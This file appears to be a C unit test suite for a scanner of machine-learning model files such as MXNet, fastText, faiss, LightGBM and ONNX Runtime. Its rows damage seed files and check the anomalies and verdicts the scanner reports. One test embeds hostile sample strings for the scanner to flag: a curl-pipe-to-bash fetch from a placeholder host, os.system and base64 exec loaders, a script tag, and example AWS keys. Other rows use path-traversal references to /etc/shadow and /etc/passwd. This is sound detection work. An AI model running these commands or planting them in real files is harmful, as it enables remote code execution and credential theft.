/* Readers of smaller model formats: MXNet, CTranslate2, fastText, word2vec, faiss, LightGBM, ncnn, MATLAB, Darknet; the frames
 * of TensorRT, RKNN and NEFF. Rows take a seed (tests/fuzz/make_tail_seeds.py) and damage one thing in it. */
#include "support/cm.h"

#include "format/formats.h"
#include "support/events.h"
#include "support/seedrows.h"
#include "support/judged.h"

#include <stdio.h>
#include <stdlib.h>

#define B(lit) GH_SPAN(lit)
#define NONE ((struct gh_span){ 0 })

static const struct gh_seed_row rows[] = {
	/* ---- MXNet ---- */
	{ &gh_fmt_mxnet_params, "arrays", "clean_v2.params", NONE, NONE, 0, GH_OK, true,
	  "tensor \"array 0\" F32 [2, 3]", "anomaly" },
	{ &gh_fmt_mxnet_params, "every version", "clean_mixed.params", NONE, NONE, 0, GH_OK, true,
	  "tensor \"indices of array 2\" I64 [1]", "anomaly" },
	{ &gh_fmt_mxnet_params, "names", "clean_v2.params", NONE, NONE, 0, GH_OK, true, "\"aux:bn_mean\"", NULL },
	{ &gh_fmt_mxnet_params, "no names", "clean_nameless.nd", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_mxnet_params, "type 99", "type.params", NONE, NONE, 0, GH_E_UNREAD, false, "anomaly GH-SEQ-0003",
	  NULL },
	{ &gh_fmt_mxnet_params, "2^80 elements", "huge.params", NONE, NONE, 0, GH_E_MALFORMED, false,
	  "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_mxnet_params, "more arrays than bytes", "clean_nameless.nd", B("\1\0\0\0\0\0\0\0\xc8"),
	  B("\1\0\0\0\0\0\0\1\xc8"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0001", NULL },
	{ &gh_fmt_mxnet_params, "one name for two arrays", "clean_v2.params", B("aux:bn_mean"), B("arg:fc_weig"), 0,
	  GH_OK, true, NULL, "GH-SEQ-0006" },
	{ &gh_fmt_mxnet_params, "the same name twice", "clean_mixed.params", B("arg:b"), B("arg:a"), 0, GH_OK, true,
	  "anomaly GH-SEQ-0006", NULL },
	{ &gh_fmt_mxnet_params, "a name of control characters", "clean_mixed.params", B("arg:b"), B("ar\1:b"), 0, GH_OK,
	  true, "anomaly GH-SEQ-0005", NULL },
	{ &gh_fmt_mxnet_params, "cut", "clean_nameless.nd", NONE, NONE, 4, GH_E_MALFORMED, false, "anomaly GH-SEQ-0002",
	  NULL },
	{ &gh_fmt_mxnet_params, "a strange device", "clean_nameless.nd", B("\1\0\0\0\0\0\0\0\5"),
	  B("\x7f\0\0\0\0\0\0\0\5"), 0, GH_OK, true, "anomaly GH-SEQ-0008", NULL },
	/* ---- CTranslate2 ---- */
	{ &gh_fmt_ctranslate2, "version 6", "clean_v6.bin", NONE, NONE, 0, GH_OK, true,
	  "tensor \"decoder/embeddings/weight\" F32 [2, 3]", "anomaly" },
	{ &gh_fmt_ctranslate2, "version 3", "clean_v3.bin", NONE, NONE, 0, GH_OK, true,
	  "tensor \"encoder/bias\" F32 [2]", "anomaly" },
	{ &gh_fmt_ctranslate2, "version 40", "version.bin", NONE, NONE, 0, GH_E_UNREAD, false, "anomaly GH-SEQ-0007",
	  NULL },
	{ &gh_fmt_ctranslate2, "shape and size differ", "clean_v6.bin", B("\2\0\0\0\3\0\0\0"), B("\2\0\0\0\4\0\0\0"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_ctranslate2, "a name without its end", "clean_v6.bin", B("weight\0\2\2"), B("weight!\2\2"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	/* ---- fastText ---- */
	{ &gh_fmt_fasttext, "a classifier", "clean_supervised.bin", NONE, NONE, 0, GH_OK, true,
	  "tensor \"input\" F32 [3, 4]", "anomaly" },
	{ &gh_fmt_fasttext, "vectors with buckets", "clean_vectors.bin", NONE, NONE, 0, GH_OK, true,
	  "tensor \"output\" F32 [2, 4]", "anomaly" },
	{ &gh_fmt_fasttext, "quantised", "clean_quantised.ftz", NONE, NONE, 0, GH_OK, true,
	  "tensor \"centroids\" F32 [1024]", "anomaly" },
	{ &gh_fmt_fasttext, "version 99", "version.bin", NONE, NONE, 0, GH_E_UNREAD, false, "anomaly GH-SEQ-0007",
	  NULL },
	{ &gh_fmt_fasttext, "a third kind of word", "clean_supervised.bin", B("\3\0\0\0\0\0\0\0\0bc"),
	  B("\3\0\0\0\0\0\0\0\2bc"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_fasttext, "fewer rows than words", "clean_supervised.bin", B("\3\0\0\0\0\0\0\0\4\0\0\0\0\0\0\0"),
	  B("\2\0\0\0\0\0\0\0\6\0\0\0\0\0\0\0"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_fasttext, "parts of words without buckets", "clean_supervised.bin", B("\0\0\0\0\x64\0\0\0"),
	  B("\6\0\0\0\x64\0\0\0"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_fasttext, "buckets without rows", "clean_vectors.bin", B("\2\0\0\0\2\0\0\0\0\0\0\0\0\0\0\0\x64"),
	  B("\2\0\0\0\x9\0\0\0\0\0\0\0\6\0\0\0\x64"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_fasttext, "a pruned word without a row", "clean_quantised.ftz", B("\7\0\0\0\0\0\0\0\1\1"),
	  B("\7\0\0\0\1\0\0\0\1\1"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_fasttext, "cut", "clean_vectors.bin", NONE, NONE, 3, GH_E_MALFORMED, false, "anomaly GH-SEQ-0001",
	  NULL },
	/* ---- word2vec ---- */
	{ &gh_fmt_word2vec, "vectors", "clean_plain.bin", NONE, NONE, 0, GH_OK, true,
	  "tensor \"words and vectors\" U8 [", "anomaly" },
	{ &gh_fmt_word2vec, "with line breaks", "clean_lines.bin", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_word2vec, "cut", "cut.bin", NONE, NONE, 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0001", NULL },
	{ &gh_fmt_word2vec, "one word less", "clean_lines.bin", B("2 50"), B("3 50"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-SEQ-0005", NULL },
	{ &gh_fmt_word2vec, "a word of control characters", "clean_plain.bin", B("and "), B("\1nd "), 0, GH_E_MALFORMED,
	  false, "anomaly GH-SEQ-0005", NULL },
	/* ---- faiss ---- */
	{ &gh_fmt_faiss, "flat", "clean_flat.faiss", NONE, NONE, 0, GH_OK, true, "tensor \"vectors\" F32 [12]",
	  "anomaly" },
	{ &gh_fmt_faiss, "inverted lists", "clean_ivf.faiss", NONE, NONE, 0, GH_OK, true,
	  "tensor \"inverted lists\" U8 [72]", "anomaly" },
	{ &gh_fmt_faiss, "a graph", "clean_hnsw.faiss", NONE, NONE, 0, GH_OK, true, "tensor \"probabilities\" F64 [1]",
	  "anomaly" },
	{ &gh_fmt_faiss, "a quantiser and ids", "clean_pq.index", NONE, NONE, 0, GH_OK, true, "tensor \"ids\" I64 [3]",
	  "anomaly" },
	{ &gh_fmt_faiss, "a transform before lists", "clean_ivfpq.index", NONE, NONE, 0, GH_OK, true,
	  "tensor \"A\" F32 [32]", "anomaly" },
	{ &gh_fmt_faiss, "lists in a file of their own", "disk.index", NONE, NONE, 0, GH_OK, true,
	  "reference path \"/etc/shadow\"", NULL },
	{ &gh_fmt_faiss, "a kind that is not read", "lattice.index", NONE, NONE, 0, GH_E_UNREAD, false,
	  "anomaly GH-SEQ-0003", NULL },
	{ &gh_fmt_faiss, "a neighbour that does not exist", "clean_hnsw.faiss", B("\1\0\0\0\2\0\0\0\xff"),
	  B("\1\0\0\0\7\0\0\0\xff"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_faiss, "more vectors than declared", "clean_flat.faiss", B("\4\0\0\0\3"), B("\4\0\0\0\4"), 0,
	  GH_E_MALFORMED, true, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_faiss, "lists longer than the file", "clean_ivf.faiss", B("full\2\0\0\0\0\0\0\0\1"),
	  B("full\2\0\0\0\0\0\0\0\x7f"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-000", NULL },
	{ &gh_fmt_faiss, "cut", "clean_flat.faiss", NONE, NONE, 1, GH_E_MALFORMED, false, "anomaly GH-SEQ-0001", NULL },
	/* ---- LightGBM ---- */
	{ &gh_fmt_lightgbm, "trees", "clean_trees.txt", NONE, NONE, 0, GH_OK, true, "package PyPI \"lightgbm\"",
	  "anomaly" },
	{ &gh_fmt_lightgbm, "a tree of one leaf", "clean_stump.txt", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_lightgbm, "sizes that lead elsewhere", "sizes.txt", NONE, NONE, 0, GH_OK, true, "anomaly GH-SEQ-0008",
	  NULL },
	{ &gh_fmt_lightgbm, "no end", "cut.txt", NONE, NONE, 0, GH_E_MALFORMED, true, "anomaly GH-SEQ-0002", NULL },
	{ &gh_fmt_lightgbm, "a feature that does not exist", "clean_trees.txt", B("split_feature=0 2"),
	  B("split_feature=0 3"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_lightgbm, "a circle", "clean_trees.txt", B("left_child=1 -1"), B("left_child=0 -1"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_lightgbm, "a leaf that does not exist", "clean_trees.txt", B("right_child=-2 -3"),
	  B("right_child=-2 -4"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_lightgbm, "a category that does not exist", "clean_trees.txt", B("threshold=0\n"), B("threshold=1\n"),
	  0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_lightgbm, "fewer leaves than values", "clean_trees.txt", B("0.1 -0.2 0.3"), B("0.1 -0.2e003"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_lightgbm, "bits of categories beyond", "clean_trees.txt", B("cat_boundaries=0 1"),
	  B("cat_boundaries=0 9"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_lightgbm, "a line that is nothing", "clean_trees.txt", B("num_class=1"), B("num_class 1"), 0,
	  GH_E_UNREAD, false, "anomaly GH-SEQ-0003", NULL },
	{ &gh_fmt_lightgbm, "two billion leaves", "clean_trees.txt", B("num_leaves=3\n"), B("num_leaves=9\n"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-SEQ-0004", NULL },
	/* ---- ncnn ---- */
	{ &gh_fmt_ncnn, "layers", "clean.txt", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_ncnn, "arrays", "clean_arrays.txt", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_ncnn, "more outputs than blobs", "blobs.txt", NONE, NONE, 0, GH_E_MALFORMED, true,
	  "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_ncnn, "fewer layers than declared", "clean.txt", B("\n3 3\n"), B("\n4 3\n"), 0, GH_E_MALFORMED, true,
	  "anomaly GH-SEQ-0002", NULL },
	{ &gh_fmt_ncnn, "a parameter without a key", "clean.txt", B("2=3"), B("x=3"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-SEQ-0004", NULL },
	/* ---- MATLAB ---- */
	{ &gh_fmt_matlab, "variables", "clean_plain.mat", NONE, NONE, 0, GH_OK, true, "tensor \"weights\" F64 [3]",
	  "anomaly" },
	{ &gh_fmt_matlab, "letters", "clean_plain.mat", NONE, NONE, 0, GH_OK, true, "text metadata \"label\" \"hello\"",
	  NULL },
	{ &gh_fmt_matlab, "compressed", "clean_packed.mat", NONE, NONE, 0, GH_OK, true, "member \"variable\"",
	  "anomaly" },
	{ &gh_fmt_matlab, "Java", "java.mat", NONE, NONE, 0, GH_OK, true, "anomaly GH-MAT-0001", NULL },
	{ &gh_fmt_matlab, "an object", "mcos.mat", NONE, NONE, 0, GH_OK, true, "anomaly GH-MAT-0002", NULL },
	{ &gh_fmt_matlab, "a function", "function.mat", NONE, NONE, 0, GH_OK, true, "anomaly GH-MAT-0003", NULL },
	{ &gh_fmt_matlab, "an element longer than its variable", "clean_plain.mat", B("\x9\0\0\0\x18\0\0\0"),
	  B("\x9\0\0\0\x18\0\0\1"), 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0001", NULL },
	{ &gh_fmt_matlab, "a class that does not exist", "clean_plain.mat", B("\6\0\0\0\x8\0\0\0\6\0\0\0"),
	  B("\6\0\0\0\x8\0\0\0\x7f\0\0\0"), 0, GH_E_UNREAD, false, "anomaly GH-SEQ-0003", NULL },
	{ &gh_fmt_matlab, "a broken compressed variable", "clean_packed.mat", NONE, NONE, 5, GH_E_MALFORMED, false,
	  "anomaly GH-SEQ-000", NULL },
	{ &gh_fmt_matlab_variable, "a variable", "clean_double", NONE, NONE, 0, GH_OK, true,
	  "tensor \"weights\" F64 [3]", "anomaly" },
	{ &gh_fmt_matlab_variable, "a structure", "clean_struct", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_matlab_variable, "a field twice", "clean_struct", B("b\0\0\0\0\0\0\0"), B("a\0\0\0\0\0\0\0"), 0,
	  GH_OK, true, "anomaly GH-SEQ-0008", NULL },
	{ &gh_fmt_matlab_variable, "Java", "java", NONE, NONE, 0, GH_OK, true, "anomaly GH-MAT-0001", NULL },
	/* ---- Darknet ---- */
	{ &gh_fmt_darknet, "version 0.2", "yolo.weights", NONE, NONE, 0, GH_E_UNREAD, true,
	  "tensor \"weights\" F32 [32]", "anomaly" },
	{ &gh_fmt_darknet, "version 0.1", "old.weights", NONE, NONE, 0, GH_E_UNREAD, true,
	  "tensor \"weights\" F32 [32]", "anomaly" },
	/* ---- ONNX Runtime ---- */
	{ &gh_fmt_ort, "a graph", "clean_graph.ort", NONE, NONE, 0, GH_OK, true, "tensor \"w\" F32 [2, 2]", "anomaly" },
	{ &gh_fmt_ort, "its operators", "clean_graph.ort", NONE, NONE, 0, GH_OK, true, "call operation .MatMul", NULL },
	{ &gh_fmt_ort, "its producer", "clean_graph.ort", NONE, NONE, 0, GH_OK, true,
	  "package generic \"pytorch\" \"2.1\"", NULL },
	{ &gh_fmt_ort, "a graph in a node", "clean_if.ort", NONE, NONE, 0, GH_OK, true, "call operation .Constant",
	  "anomaly" },
	{ &gh_fmt_ort, "Python", "python.ort", NONE, NONE, 0, GH_OK, true, "call operation ai.onnx.contrib.PyOp",
	  NULL },
	{ &gh_fmt_ort, "an engine elsewhere", "engine.ort", NONE, NONE, 0, GH_OK, true,
	  "reference path \"../../etc/x.bin\"", NULL },
	{ &gh_fmt_ort, "weights shorter than their shape", "short.ort", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-FB-0005", NULL },
	{ &gh_fmt_ort, "weights in another file", "away.ort", NONE, NONE, 0, GH_OK, true, "anomaly GH-FB-0007", NULL },
	{ &gh_fmt_ort, "a type that is not known", "type.ort", NONE, NONE, 0, GH_OK, true, "anomaly GH-FB-0003", NULL },
	{ &gh_fmt_ort, "a text without its end", "clean_graph.ort", B("MatMul\0"), B("MatMul!"), 0, GH_OK, true,
	  "anomaly GH-FB-0001", NULL },
	{ &gh_fmt_ort, "bytes of no field", "loose.ort", NONE, NONE, 0, GH_OK, true, "anomaly GH-FB-0002", NULL },
	/* ---- ExecuTorch ---- */
	{ &gh_fmt_executorch, "weights in the program", "clean_inline.pte", NONE, NONE, 0, GH_OK, true,
	  "tensor \"constant 1\" F32 [2, 2]", "anomaly" },
	{ &gh_fmt_executorch, "weights in a segment", "clean_segment.pte", NONE, NONE, 0, GH_OK, true,
	  "tensor \"constant 1\" F32 [2, 2]", "anomaly" },
	{ &gh_fmt_executorch, "its operators", "clean_inline.pte", NONE, NONE, 0, GH_OK, true,
	  "call operation .aten::linear", NULL },
	{ &gh_fmt_executorch, "a backend", "backend.pte", NONE, NONE, 0, GH_OK, true, "anomaly GH-FB-0006", NULL },
	{ &gh_fmt_executorch, "a backend: its program", "backend.pte", NONE, NONE, 0, GH_OK, true,
	  "member \"XnnpackBackend\" nested", NULL },
	{ &gh_fmt_executorch, "an operator that does not exist", "index.pte", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-FB-0004", NULL },
	{ &gh_fmt_executorch, "weights shorter than their shape", "short.pte", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-FB-0005", NULL },
	{ &gh_fmt_executorch, "a segment beyond the file", "far.pte", NONE, NONE, 0, GH_OK, false, "anomaly GH-FB-0005",
	  NULL },
	{ &gh_fmt_executorch, "weights in another file", "away.pte", NONE, NONE, 0, GH_OK, true, "anomaly GH-FB-0007",
	  NULL },
	/* ---- one tensor of ONNX ---- */
	{ &gh_fmt_onnx_tensor, "raw", "clean_raw.pb", NONE, NONE, 0, GH_OK, true, "tensor \"input_0\" F32 [2, 2]",
	  "anomaly" },
	{ &gh_fmt_onnx_tensor, "typed", "clean_typed.pb", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_onnx_tensor, "shorter than its shape", "short.pb", NONE, NONE, 0, GH_OK, true, "anomaly GH-ONNX-0002",
	  NULL },
	{ &gh_fmt_onnx_tensor, "external", "external.pb", NONE, NONE, 0, GH_OK, true, "reference data \"/etc/shadow\"",
	  NULL },
	/* ---- llamafile ---- */
	{ &gh_fmt_llamafile, "a program with weights", "model.llamafile", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-LLF-0001", NULL },
	{ &gh_fmt_llamafile, "its program", "model.llamafile", NONE, NONE, 0, GH_OK, true,
	  "member \"program\" file 0+4096", NULL },
	{ &gh_fmt_llamafile, "its weights", "model.llamafile", NONE, NONE, 0, GH_OK, true, "member \"model.gguf\" file",
	  NULL },
	{ &gh_fmt_llamafile, "its arguments", "model.llamafile", NONE, NONE, 0, GH_OK, true, "anomaly GH-LLF-0002",
	  NULL },
	{ &gh_fmt_llamafile, "no arguments", "noargs.llamafile", NONE, NONE, 0, GH_OK, true, "anomaly GH-LLF-0001",
	  "GH-LLF-0002" },
	/* ---- graphs of MXNet ---- */
	{ &gh_fmt_mxnet_symbol, "a graph", "clean_net.json", NONE, NONE, 0, GH_OK, true, "call operation .Convolution",
	  "anomaly" },
	{ &gh_fmt_mxnet_symbol, "Python", "custom.json", NONE, NONE, 0, GH_OK, true, "anomaly GH-MXS-0001", NULL },
	{ &gh_fmt_mxnet_symbol, "an address", "native.json", NONE, NONE, 0, GH_OK, true, "anomaly GH-MXS-0002", NULL },
	{ &gh_fmt_mxnet_symbol, "an operator of nobody", "other.json", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-MXS-0003", NULL },
	/* ---- CNTK ---- */
	{ &gh_fmt_cntk, "parameters", "clean_times.model", NONE, NONE, 0, GH_OK, true, "tensor \"value\" F32 [6]",
	  "anomaly" },
	{ &gh_fmt_cntk, "names", "clean_name.model", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_cntk, "Python", "python.model", NONE, NONE, 0, GH_OK, true, "anomaly GH-CNTK-0001", NULL },
	{ &gh_fmt_cntk, "fewer numbers than the shape says", "short.model", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-CNTK-0002", NULL },
	/* ---- MATLAB, level 4 ---- */
	{ &gh_fmt_matlab4, "two arrays", "clean_two.mat", NONE, NONE, 0, GH_OK, true, "tensor \"bias\" F32 [2]",
	  "anomaly" },
	{ &gh_fmt_matlab4, "text", "clean_text.mat", NONE, NONE, 0, GH_OK, true, "text metadata \"label\" \"hello\"",
	  "anomaly" },
	{ &gh_fmt_matlab4, "big-endian", "clean_big.mat", NONE, NONE, 0, GH_OK, true, "tensor \"w\" F64 [3]",
	  "anomaly" },
	{ &gh_fmt_matlab4, "cut", "cut.mat", NONE, NONE, 0, GH_E_MALFORMED, false, "anomaly GH-SEQ-0001", NULL },
	{ &gh_fmt_matlab4, "a name twice", "clean_two.mat", NONE, B("\0\0\0\0\1\0\0\0\0\0\0\0\0\0\0\0\5\0\0\0bias\0"),
	  0, GH_OK, true, "anomaly GH-SEQ-0006", NULL },
	/* ---- OCDBT ---- */
	{ &gh_fmt_ocdbt, "a manifest", "clean_plain.ocdbt", NONE, NONE, 0, GH_OK, true,
	  "reference path \"d/01fedcba98765432\"", "anomaly" },
	{ &gh_fmt_ocdbt, "compressed", "clean_zstd.ocdbt", NONE, NONE, 0, GH_OK, true,
	  "reference path \"d/0123456789abcdef\"", "anomaly" },
	{ &gh_fmt_ocdbt, "of an old writer", "clean_old.ocdbt", NONE, NONE, 0, GH_OK, true, "reference path",
	  "anomaly" },
	{ &gh_fmt_ocdbt, "files elsewhere", "outside.ocdbt", NONE, NONE, 0, GH_OK, true,
	  "reference path \"../../../etc/passwd\"", NULL },
	{ &gh_fmt_ocdbt, "a file that is not in the table", "file.ocdbt", NONE, NONE, 0, GH_E_MALFORMED, true,
	  "anomaly GH-SEQ-0004", NULL },
	{ &gh_fmt_ocdbt, "another sum", "sum.ocdbt", NONE, NONE, 0, GH_OK, true, "anomaly GH-OCD-0001", NULL },
	{ &gh_fmt_ocdbt, "a node", "node", NONE, NONE, 0, GH_E_UNREAD, false, NULL, "anomaly" },
	/* ---- frames ---- */
	{ &gh_fmt_tensorrt, "an engine", "plain.engine", NONE, NONE, 0, GH_E_UNREAD, false, NULL, "anomaly" },
	{ &gh_fmt_tensorrt, "a plugin", "plugin.engine", NONE, NONE, 0, GH_E_UNREAD, false, "anomaly GH-ENG-0001",
	  NULL },
	{ &gh_fmt_tensorrt, "a plugin: which", "plugin.engine", NONE, NONE, 0, GH_E_UNREAD, false, "\"BatchedNMS_TRT\"",
	  NULL },
	{ &gh_fmt_tensorrt, "with a description", "described.engine", NONE, NONE, 0, GH_E_UNREAD, false,
	  "member \"description.json\"", "anomaly" },
	{ &gh_fmt_rknn, "a description", "described.rknn", NONE, NONE, 0, GH_E_UNREAD, false,
	  "member \"description.json\"", "anomaly" },
	{ &gh_fmt_rknn, "encrypted", "locked.rknn", NONE, NONE, 0, GH_E_UNREAD, false, "anomaly GH-ENG-0002", NULL },
	{ &gh_fmt_rknn, "a length", "length.rknn", NONE, NONE, 0, GH_E_MALFORMED, false, "anomaly GH-ENG-0003", NULL },
	{ &gh_fmt_neff, "an archive", "package.neff", NONE, NONE, 0, GH_E_UNREAD, false, "member \"neff.tar.gz\"",
	  "anomaly" },
	{ &gh_fmt_neff, "a length", "long.neff", NONE, NONE, 0, GH_E_MALFORMED, false, "anomaly GH-ENG-0003", NULL },
};

static void every_row(void **st)
{
	(void)st;
	assert_int_equal(gh_seed_rows_wrong(rows, GH_ROWS(rows)), 0);
}

/* ---- signs of active content: the rows of seq.h, in the name of an array of MXNet ------------------------------------------ */

static void signs(void **st)
{
	(void)st;
	static const struct {
		const char *text, *id;
	} t[] = {
		{ "import os; os.system(\"id\")", "GH-SEQ-0201" },
		{ "curl http://a.example/x.sh | bash", "GH-SEQ-0202" },
		{ "<script>alert(1)</script>", "GH-SEQ-0203" },
		{ "exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))", "GH-SEQ-0204" },
		{ "http://a.example/payload.exe", "GH-SEQ-0205" },
		{ "AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		  "GH-SEQ-0206" },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		gh_auto_buf b = gh_buf(1 << 12);
		struct gh_events ev;
		uint64_t words[] = { 0x112, 0, 1, 0xf993fac8, 0, 1, strlen(t[i].text) };
		gh_buf_put(&b, words, 24);
		gh_buf_put(&b, "\xc8\xfa\x93\xf9\0\0\0\0", 8); /* an array without dimensions */
		gh_buf_put(&b, &words[5], 16);
		gh_buf_str(&b, t[i].text);
		gh_events_walk(&ev, &gh_fmt_mxnet_params, gh_buf_view(&b), "x", true);
		if (ev.rc != GH_OK || !ev.gapless || !gh_events_has(&ev, t[i].id))
			fail_msg("%s: rc %d (%s)\n%s", t[i].id, ev.rc, ev.why, gh_buf_cstr(&ev.log));
		gh_events_free(&ev);
	}
}

/* Each knows its own; none takes text, noise or zeros for its own. */
static void probes(void **st)
{
	(void)st;
	static const struct gh_fmt *const all[] = {
		&gh_fmt_mxnet_params,	 &gh_fmt_ctranslate2, &gh_fmt_fasttext,	  &gh_fmt_word2vec, &gh_fmt_faiss,
		&gh_fmt_lightgbm,	 &gh_fmt_ort,	      &gh_fmt_executorch, &gh_fmt_ncnn,	    &gh_fmt_matlab,
		&gh_fmt_matlab_variable, &gh_fmt_tensorrt,    &gh_fmt_rknn,	  &gh_fmt_neff
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		const struct gh_seed_row *r = &rows[i];
		if (strncmp(r->seed, "clean", 5) != 0 || r->find.n != 0 || r->cut != 0)
			continue;
		size_t n;
		uint8_t *bytes = gh_seed_row_bytes(r, &n);
		assert_non_null(bytes);
		struct gh_span in = { bytes, n };
		struct gh_probe p = { in, in, in.n };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			if ((all[k]->probe(&p) == GH_STRONG) != (all[k] == r->fmt && r->fmt != &gh_fmt_onnx_tensor))
				fail_msg("%s/%s as %s: %d", r->fmt->name, r->seed, all[k]->name, all[k]->probe(&p));
		free(bytes);
	}
	uint8_t noise[2048] = { 0 };
	uint64_t x = 88172645463325252u;
	for (unsigned round = 0; round < 20000; round++) {
		struct gh_probe p = { { noise, sizeof noise }, { noise, sizeof noise }, 1 << 20 };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			if (all[k]->probe(&p) != GH_NO)
				fail_msg("%s takes noise for its own", all[k]->name);
		for (size_t i = 0; i < 64; i += 8) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			memcpy(noise + i, &x, 8);
		}
	}
}

/* ---- what the whole scan makes of them: readers, checks, coverage --------------------------------------------------------- */

static void verdicts(void **st)
{
	(void)st;
	static const struct {
		const char *seed;
		enum gh_verdict verdict;
		const char *id; /* NULL: none */
	} t[] = {
		{ "ocdbt/outside.ocdbt", GH_UNSAFE, "GH-SET-0003" },
		{ "faiss/disk.index", GH_UNSAFE, "GH-SET-0003" },
		{ "ort/engine.ort", GH_UNSAFE, "GH-OXG-0001" },
		{ "ort/python.ort", GH_UNSAFE, "GH-OXG-0005" },
		{ "onnx-tensor/external.pb", GH_UNSAFE, "GH-OXG-0001" },
		{ "matlab/java.mat", GH_UNSAFE, "GH-MAT-0001" },
		{ "mxnet-symbol/native.json", GH_UNSAFE, "GH-MXS-0002" },
		{ "executorch/backend.pte", GH_INCOMPLETE, "GH-FB-0006" },
		{ "llamafile/model.llamafile", GH_INCOMPLETE, "GH-LLF-0001" },
		{ "llamafile/pickle.llamafile", GH_UNSAFE, "GH-CALL-0001" },
		{ "neff/long.neff", GH_UNSAFE, "GH-ENG-0003" },
		{ "tensorrt/plugin.engine", GH_INCOMPLETE, "GH-ENG-0001" },
		{ "darknet/yolo.weights", GH_INCOMPLETE, NULL },
		{ "kaldi/final.mdl", GH_INCOMPLETE, "GH-SCAN-0002" },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		char path[300];
		struct gh_test_judged j;
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/%s", t[i].seed);
		struct gh_span in = gh_test_file(path);
		assert_non_null(in.p);
		gh_test_judge(&j, in, strrchr(t[i].seed, '/') + 1);
		if (j.verdict != t[i].verdict || (t[i].id != NULL && strstr(j.ids, t[i].id) == NULL))
			fail_msg("%s: %d\n%s", t[i].seed, j.verdict, j.all);
		free((void *)(uintptr_t)in.p);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(every_row), cmocka_unit_test(signs),
					    cmocka_unit_test(probes), cmocka_unit_test(verdicts) };
	return cmocka_run_group_tests(tests, NULL, NULL);
}
